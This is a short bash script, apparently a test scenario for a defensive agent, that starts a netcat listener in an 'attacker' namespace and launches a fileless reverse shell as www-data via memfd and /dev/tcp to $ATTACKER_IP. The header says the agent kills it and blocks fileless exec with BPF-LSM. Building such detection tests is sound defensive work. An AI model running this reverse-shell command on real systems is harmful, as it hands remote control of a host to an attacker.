#!/usr/bin/env bash
# A fileless reverse shell run by www-data (a web shell's user): bash copied into a memfd and
# exec'd from /proc/self/fd/N. The agent kills it and, the image having no path, denies exec of
# fileless images to uid 33 with BPF-LSM.
set -u
ip netns exec attacker bash -c "sleep 300 | nc -l 4445 >/dev/null 2>&1" </dev/null >/dev/null 2>&1 &
for _ in $(seq 40); do
  ip netns exec attacker ss -ltn | grep -q ':4445 ' && break
  sleep 0.25
done
setsid runuser -u www-data -- iw-fileless /usr/bin/bash -c \
  "bash -i >& /dev/tcp/$ATTACKER_IP/4445 0>&1; true" </dev/null >/dev/null 2>&1 &
echo "fileless shell started"
